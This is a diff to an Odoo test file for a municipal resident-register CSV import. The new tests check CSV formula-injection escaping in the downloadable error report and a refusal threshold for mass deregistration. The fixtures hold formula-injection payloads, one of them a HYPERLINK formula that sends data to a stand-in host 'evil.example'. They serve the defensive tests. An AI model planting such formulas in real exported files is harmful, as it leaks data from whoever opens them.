@@ -6,9 +6,10 @@ import io
 
 from freezegun import freeze_time
 
-from odoo.exceptions import AccessError
+from odoo.exceptions import AccessError, UserError, ValidationError
 from odoo.tests import tagged
 
+from .. import csv_safe
 from .common import ConfirmaImportCommon
 
 
@@ -106,7 +107,8 @@ class TestPadronImport(ConfirmaImportCommon):
         record = self.run_import(partial)
         self.assertEqual(record.deregistered, 0)
         self.assertEqual(set(self._residents().mapped("padron_state")), {"active"})
-        record = self.run_import(partial, full_snapshot=True)
+        # one of three missing is more than the 5 % allowed: forced
+        record = self.run_import(partial, full_snapshot=True, force=True)
         # 44444444A's row is refused for its date but it is in the file: kept
         self.assertEqual(record.deregistered, 1)
         gone = self._residents().filtered(lambda p: p.padron_state == "deregistered")
@@ -243,3 +245,150 @@ class TestPadronImport(ConfirmaImportCommon):
         self.assertEqual(len(calls), 2)
         again = self.run_import(stream.getvalue().encode("utf-8"))
         self.assertEqual((again.created, again.updated, again.unchanged), (0, 0, 2500))
+
+
+@tagged("post_install", "-at_install")
+@freeze_time("2026-02-01")
+class TestPadronImportSafety(ConfirmaImportCommon):
+    """The error report is safe to open in a spreadsheet; a full snapshot
+    that would deregister too many residents is refused unless forced."""
+
+    def _report(self, record):
+        text = base64.b64decode(record.error_report).decode("utf-8")
+        return list(csv.reader(io.StringIO(text)))[1:]
+
+    def test_error_report_neutralises_formulas(self):
+        """A document number such as =HYPERLINK(...) is written as text (a
+        single quote in front) in the report the officer downloads."""
+        hostile = (
+            '=HYPERLINK("http://evil.example/?leak")',
+            "+34600000000",
+            "-2+3",
+            "@SUM(A1)",
+        )
+        content = self.csv_bytes(
+            self.row("12345678Z", first="Good"),
+            *(self.row(doc, first=f"Bad{i}") for i, doc in enumerate(hostile)),
+        )
+        record = self.run_import(content, user=self.officer_citizen)
+        self.assertEqual((record.created, record.errors), (1, len(hostile)))
+        report = self._report(record)
+        self.assertEqual([row[1] for row in report], [f"'{doc}" for doc in hostile])
+        for row in report:
+            for cell in row:
+                self.assertFalse(cell.startswith(csv_safe.FORMULA_PREFIXES), cell)
+
+    def test_csv_helper(self):
+        for cell in ("=1+1", "+1", "-1", "@A1", "\tcmd", "\rcmd"):
+            with self.subTest(cell=cell):
+                self.assertEqual(csv_safe.safe_cell(cell), "'" + cell)
+        for cell in ("12345678Z", "Ana", "", " =1", 7, -3, None):
+            with self.subTest(cell=cell):
+                self.assertEqual(csv_safe.safe_cell(cell), cell)
+        stream = io.StringIO()
+        csv_safe.writer(stream).writerows([["=cmd", 1], ["ok", "-x"]])
+        self.assertEqual(
+            list(csv.reader(io.StringIO(stream.getvalue()))),
+            [["'=cmd", "1"], ["ok", "'-x"]],
+        )
+
+    # ---- full snapshot sanity check ------------------------------------------------
+    DOCS = (
+        "12345678Z", "X1234567L", "44444444A", "11111111H", "22222222J",
+        "33333333P", "10000001S", "20000002F", "30000003E", "40000004Z",
+        "50000005Y", "60000006K", "70000007J", "80000008M", "90000009C",
+        "10101010P", "20202020Q", "30303030R", "40404040D", "50505050V",
+    )  # fmt: skip
+
+    def _town(self):
+        """20 registered residents."""
+        self.run_import(self.csv_bytes(*(self.row(doc) for doc in self.DOCS)))
+        return self.env["res.partner"].search([("is_resident", "=", True)])
+
+    def _snapshot(self, missing):
+        """A full snapshot without the last ``missing`` residents."""
+        kept = self.DOCS[: len(self.DOCS) - missing]
+        return self.csv_bytes(*(self.row(doc) for doc in kept))
+
+    def _active(self, residents):
+        return residents.filtered(lambda p: p.padron_state == "active")
+
+    def test_truncated_snapshot_refused(self):
+        """2 of 20 missing (10 %) is more than the 5 % allowed: refused with
+        a clear message, nobody deregistered, nothing of the file written."""
+        residents = self._town()
+        content = self._snapshot(2).replace(b"Carrer Major 1", b"Carrer Nou 9")
+        # (Odoo's assertRaises rolls back to a savepoint, as the refused
+        # request of the wizard rolls back its transaction)
+        with self.assertRaises(UserError) as refused:
+            self.run_import(content, user=self.officer_citizen, full_snapshot=True)
+        self.assertRegex(
+            str(refused.exception),
+            r"would deregister 2 of the 20 active residents \(10\.0 %\), more "
+            r"than the 5 % allowed: is the file complete\? Nobody was deregistered",
+        )
+        self.env.invalidate_all()  # what the database holds after the refusal
+        self.assertEqual(len(self._active(residents)), 20)
+        self.assertEqual(set(residents.mapped("street")), {"Carrer Major 1"})
+        self.assertFalse(
+            self.env["confirma.padron.import"].search([("full_snapshot", "=", True)])
+        )
+
+    def test_forced_snapshot_deregisters(self):
+        residents = self._town()
+        record = self.run_import(
+            self._snapshot(2), user=self.officer_citizen, full_snapshot=True, force=True
+        )
+        self.assertEqual(record.deregistered, 2)
+        self.assertTrue(record.snapshot_forced)
+        self.assertEqual(len(self._active(residents)), 18)
+
+    def test_within_the_allowed_share(self):
+        """1 of 20 (5 %) is not more than 5 %: applied; the share is a setting."""
+        residents = self._town()
+        record = self.run_import(self._snapshot(1), full_snapshot=True)
+        self.assertEqual(record.deregistered, 1)
+        self.assertFalse(record.snapshot_forced)
+        self.env["res.config.settings"].with_user(self.manager_citizen).create(
+            {"confirma_snapshot_max_deregister": 15}
+        ).execute()
+        # 3 of the 19 left (15.8 %): refused; then at 20 %, applied
+        with self.assertRaises(UserError):
+            self.run_import(self._snapshot(4), full_snapshot=True)
+        self.assertEqual(len(self._active(residents)), 19)
+        self.env["ir.config_parameter"].set_param(
+            "confirma_citizen.snapshot_max_deregister", "20"
+        )
+        record = self.run_import(self._snapshot(4), full_snapshot=True)
+        self.assertEqual(record.deregistered, 3)
+
+    def test_wizard_needs_the_officer_to_force(self):
+        residents = self._town()
+        Wizard = self.env["confirma.padron.import.wizard"].with_user(
+            self.officer_citizen
+        )
+        values = {
+            "file": base64.b64encode(self._snapshot(3)),
+            "filename": "snapshot.csv",
+            "full_snapshot": True,
+        }
+        with self.assertRaises(UserError) as refused:
+            Wizard.create(values).action_import()
+        self.assertIn("Nobody was deregistered", str(refused.exception))
+        self.assertEqual(len(self._active(residents)), 20)
+        action = Wizard.create(dict(values, force_snapshot=True)).action_import()
+        record = self.env["confirma.padron.import"].browse(action["res_id"])
+        self.assertEqual((record.deregistered, record.snapshot_forced), (3, True))
+        self.assertEqual(len(self._active(residents)), 17)
+
+    def test_setting(self):
+        settings = self.env["res.config.settings"].with_user(self.manager_citizen)
+        self.assertEqual(
+            settings.default_get(["confirma_snapshot_max_deregister"])[
+                "confirma_snapshot_max_deregister"
+            ],
+            5.0,
+        )
+        for bad in (-1, 101):
+            with self.subTest(share=bad), self.assertRaises(ValidationError):
+                settings.create({"confirma_snapshot_max_deregister": bad})
